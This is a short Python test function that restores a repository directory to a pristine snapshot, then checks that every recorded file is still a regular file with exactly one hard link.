def test_no_case_leaves_anything_behind(shared: Shared) -> None:
    _restore(shared.repo.root, shared.pristine)
    assert _snapshot(shared.repo.root) == shared.pristine
    for rel, (kind, _) in shared.pristine.items():
        p = shared.repo.root / rel
        if kind == "file":
            assert stat.S_ISREG(p.lstat().st_mode) and p.stat().st_nlink == 1, rel
